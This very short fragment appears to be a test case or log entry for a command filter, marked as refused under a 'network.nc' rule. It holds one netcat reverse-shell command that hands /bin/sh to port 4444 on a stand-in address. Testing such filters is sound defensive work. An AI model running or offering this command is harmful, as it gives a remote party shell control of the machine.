# refused: network.nc 2
/bin/nc -e /bin/sh 198.51.100.1 4444
